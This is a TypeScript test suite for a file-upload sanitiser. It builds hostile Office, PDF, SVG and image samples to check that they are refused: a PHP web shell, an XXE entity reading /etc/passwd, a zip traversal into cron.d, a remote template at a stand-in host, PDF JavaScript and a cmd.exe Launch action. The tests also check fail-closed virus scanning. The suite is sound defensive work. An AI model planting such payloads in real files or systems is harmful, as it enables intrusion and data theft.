import { createServer } from 'node:net'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { refuseVirus } from '../../lib/media/hostile.ts'
import { prepareImage } from '../../lib/media/prepare.ts'
import { prepareFile } from '../../lib/media/prepare-file.ts'
import { testVirus } from '../../lib/media/virus-mark.ts'
import { docx, honest, pdf, xlsx } from '../files/make.ts'
import { zipOf } from '../files/zip.ts'
import { clamdPath, startClamd } from './clamd.ts'

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])
const rels = (type: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

/** A PDF of these objects, as plain as it gets. */
const rawPdf = (catalog: string, ...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`),
    Buffer.from('2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n'),
    Buffer.from('3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n'),
    ...objects.map(one => Buffer.from(one as Buffer)),
    Buffer.from('trailer\n<< /Root 1 0 R /Size 9 >>\nstartxref\n0\n%%EOF\n'),
  ])
const objectStream = (
  text: string,
  head = '/Type /ObjStm /Filter /FlateDecode',
  pack: (bytes: Buffer) => Buffer = deflateSync,
) => {
  const packed = pack(Buffer.from(`8 0 ${text}`))
  return Buffer.concat([
    Buffer.from(`7 0 obj\n<< ${head} /N 1 /First 4 /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ])
}
const hexed = (bytes: Buffer) => Buffer.from(`${deflateSync(bytes).toString('hex')}>`)
const nested = (depth: number): Buffer =>
  depth === 0 ? zipOf({ a: 'x' }) : zipOf({ 'a.zip': nested(depth - 1) })

const refused: [string, RegExp, () => Buffer | Promise<Buffer>][] = [
  ['makro.docx', /makro/, () => docx('x', { 'word/vbaProject.bin': ole })],
  [
    'makro-di-dalam.docx',
    /makro/,
    () => docx('x', { 'word/embeddings/a.xlsx': zipOf({ 'xl/vbaProject.bin': ole }) }),
  ],
  [
    'makro4.xlsx',
    /makro/,
    () =>
      zipOf({
        '[Content_Types].xml':
          '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        'xl/workbook.xml': '<workbook/>',
        'xl/macrosheets/sheet1.xml': '<a/>',
      }),
  ],
  ['ole.docx', /OLE/, () => docx('x', { 'word/embeddings/oleObject1.bin': ole })],
  ['program.docx', /program/, () => docx('x', { 'word/media/image1.png': Buffer.from('MZ\x90\x00') })],
  ['web-shell.docx', /program/, () => docx('x', { 'word/media/a.jpg': '<?php system($_GET["c"]);' })],
  [
    'templat.docx',
    /alamat lain/,
    () => docx('x', { 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://jahat.test/a.dotm') }),
  ],
  [
    'templat-smb.docx',
    /alamat lain/,
    () => docx('x', { 'word/_rels/settings.xml.rels': rels('oleObject', '\\\\jahat.test\\a') }),
  ],
  [
    'entitas.docx',
    /jauh lebih besar/,
    () => docx('x', { 'word/b.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  ],
  [
    'entitas-16.docx',
    /jauh lebih besar/,
    () => docx('x', { 'word/b.xml': Buffer.from('\ufeff<!DOCTYPE a []><a/>', 'utf16le') }),
  ],
  ['bersarang.docx', /jauh lebih besar/, () => docx('x', { 'a.zip': nested(4) })],
  ['bom.docx', /jauh lebih besar/, () => docx('x', { 'word/bom.bin': Buffer.alloc(40 * 2 ** 20) })],
  ['keluar.docx', /rusak/, () => docx('x', { '../../etc/cron.d/a': 'x' })],
  ['kembar.docx', /rusak/, () => docx('x', { 'WORD/document.xml': '<a/>' })],
  ['virus.docx', /virus/, () => docx('x', { 'word/media/a.bin': testVirus })],
  ['skrip.pdf', /skrip/, () => rawPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['skrip-tersamar.pdf', /skrip/, () => rawPdf('/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>')],
  [
    'skrip-terkemas.pdf',
    /skrip/,
    () => rawPdf('/OpenAction 8 0 R', objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')),
  ],
  [
    'kemasan-asing.pdf',
    /rusak/,
    () =>
      rawPdf(
        '/OpenAction 8 0 R',
        objectStream('<< /S /JavaScript >>', '/Type /ObjStm /Filter [/AHx /Fl]', hexed),
      ),
  ],
  ['jalankan.pdf', /menjalankan program/, () => rawPdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['lampiran.pdf', /membawa berkas/, () => rawPdf('/Names << /EmbeddedFiles << /Names [] >> >>')],
  ['bom.pdf', /jauh lebih besar/, () => rawPdf('', objectStream(' '.repeat(210 * 2 ** 20)))],
  ['virus.pdf', /virus/, () => rawPdf('', objectStream(testVirus.toString(), '/Filter /FlateDecode'))],
  [
    'dua-jenis.pdf',
    /berkas jenis lain/,
    async () => Buffer.concat([await pdf('Surat'), zipOf({ 'a.exe': 'MZ' }), Buffer.from('%%EOF')]),
  ],
]

describe('a document that strikes whoever opens it', () => {
  test.each(refused)('%s is refused: %s', async (name, sentence, make) => {
    await expect(prepareFile(await make(), name)).rejects.toThrow(sentence)
  })

  test.each(Object.entries(honest))('%s is not one', async (name, make) => {
    expect((await prepareFile(await make(), name)).mime).toBeTruthy()
  })

  test('an ordinary template on the writer’s own disk, a link and a chart are none either', async () => {
    const own = docx('x', {
      'word/_rels/settings.xml.rels': rels('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
      'word/_rels/document.xml.rels': rels('hyperlink', 'https://www.kpu.go.id/'),
      'word/embeddings/Bagan.xlsx': xlsx('a', '1'),
    })
    expect((await prepareFile(own, 'surat.docx')).mime).toContain('wordprocessingml')
  })
})

describe('a photo', () => {
  const photo = () =>
    sharp({ create: { width: 40, height: 30, channels: 3, background: '#888' } })
      .jpeg()
      .toBuffer()

  test('that is a page too becomes a photo and nothing else', async () => {
    const both = Buffer.concat([await photo(), Buffer.from('<script>alert(1)</script><?php system(1);')])
    const { files } = await prepareImage(both, 'a.jpg')
    for (const { bytes } of files) expect(bytes.toString('latin1')).not.toMatch(/<script|<\?php/)
  })

  test('carries no comment out in which a script came in', async () => {
    const commented = await sharp(await photo())
      .withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>' } })
      .jpeg()
      .toBuffer()
    expect(commented.toString('latin1')).toContain('<script>')
    const { files } = await prepareImage(commented, 'a.jpg')
    for (const { bytes } of files) expect(bytes.toString('latin1')).not.toContain('<script>')
  })

  test('that is an SVG is refused, whatever it is called', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    )
    for (const name of ['a.svg', 'a.png', 'a.jpg'])
      await expect(prepareImage(svg, name)).rejects.toThrow(/bukan foto/)
  })
})

/** A scanner that answers this, or nothing. */
async function saying(answer: string | undefined) {
  const server = createServer(socket => {
    socket.on('error', () => {})
    if (answer === undefined) socket.destroy()
    else socket.once('data', () => socket.end(answer))
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  return { url: `tcp://127.0.0.1:${(server.address() as { port: number }).port}`, end: () => server.close() }
}

describe('the virus scanner', () => {
  test.each([
    ['closes', undefined],
    ['says nothing', ''],
    ['has a limit', 'INSTREAM size limit exceeded. ERROR\0'],
    ['is cut off', 'stream: OK'],
    ['says something else', 'stream: OK, more or less\0'],
  ])('that %s lets nothing through, and a sentence says so', async (_how, answer) => {
    const scanner = await saying(answer)
    await expect(refuseVirus(Buffer.from('surat'), scanner.url)).rejects.toThrow(/tidak menjawab/)
    scanner.end()
  })

  test('that is not there lets nothing through', async () => {
    await expect(refuseVirus(Buffer.from('surat'), 'unix:/nowhere/clamd')).rejects.toMatchObject({
      status: 503,
    })
  })

  test('knows the test file without any scanner', async () => {
    await expect(refuseVirus(testVirus, undefined)).rejects.toThrow(/virus/)
  })
})

const clamd = clamdPath()
if (!clamd) console.log('clamd is not installed (clamav-daemon): its tests are left out')

describe.skipIf(!clamd)('a real clamd', () => {
  let running: Awaited<ReturnType<typeof startClamd>>
  beforeAll(async () => {
    running = await startClamd(clamd!)
  })
  afterAll(() => running.end())

  // clamd looks into what is packed by itself: the test file is not seen by our own look here.
  const packed = () => zipOf({ 'a.txt': testVirus })

  test.each(['unix', 'tcp'] as const)(
    'over %s finds the test file in an archive and lets a letter through',
    async way => {
      await expect(refuseVirus(packed(), running[way])).rejects.toThrow(/ditandai sebagai virus/)
      await refuseVirus(await pdf('Surat'), running[way])
      await refuseVirus(Buffer.alloc(3_000_000, 'surat '), running[way])
    },
  )
})
